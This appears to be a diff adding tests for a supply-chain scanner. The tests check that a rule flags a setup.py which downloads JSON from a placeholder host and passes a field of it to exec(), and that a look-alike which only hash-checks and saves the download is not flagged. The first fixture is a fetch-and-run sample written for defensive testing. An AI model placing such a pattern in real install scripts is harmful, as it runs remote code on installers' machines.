@@ -1,0 +1,34 @@
+"""Classes the fourteenth corpus set showed, each written from its shape (not from the instance),
+with a look-alike on the other side that must keep its verdict.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from scanner_support import blocking
+
+# ------------------------------------------------ code read from a `with urlopen(...) as r` handle, then run
+
+
+def test_code_read_through_a_download_handle_and_run_blocks(tmp_path: Path) -> None:
+    code = (
+        "import json, urllib.request\n\n"
+        "def upgrade():\n"
+        '    with urllib.request.urlopen("https://cfg.example.test/layout.json") as resp:\n'
+        "        spec = json.load(resp)\n"
+        '    exec(spec["hook"], {})\n'
+    )
+    assert "SY-FLOW-002" in blocking(tmp_path, {"setup.py": code})
+
+
+def test_a_download_handle_read_as_data_does_not_block(tmp_path: Path) -> None:
+    code = (
+        "import hashlib, json, urllib.request\n\n"
+        "def refresh():\n"
+        '    with urllib.request.urlopen("https://cfg.example.test/layout.json") as resp:\n'
+        "        raw = resp.read()\n"
+        '    assert hashlib.sha256(raw).hexdigest() == "00" * 32\n'
+        '    open("layout.json", "wb").write(raw)\n'
+    )
+    assert blocking(tmp_path, {"setup.py": code}) == {}
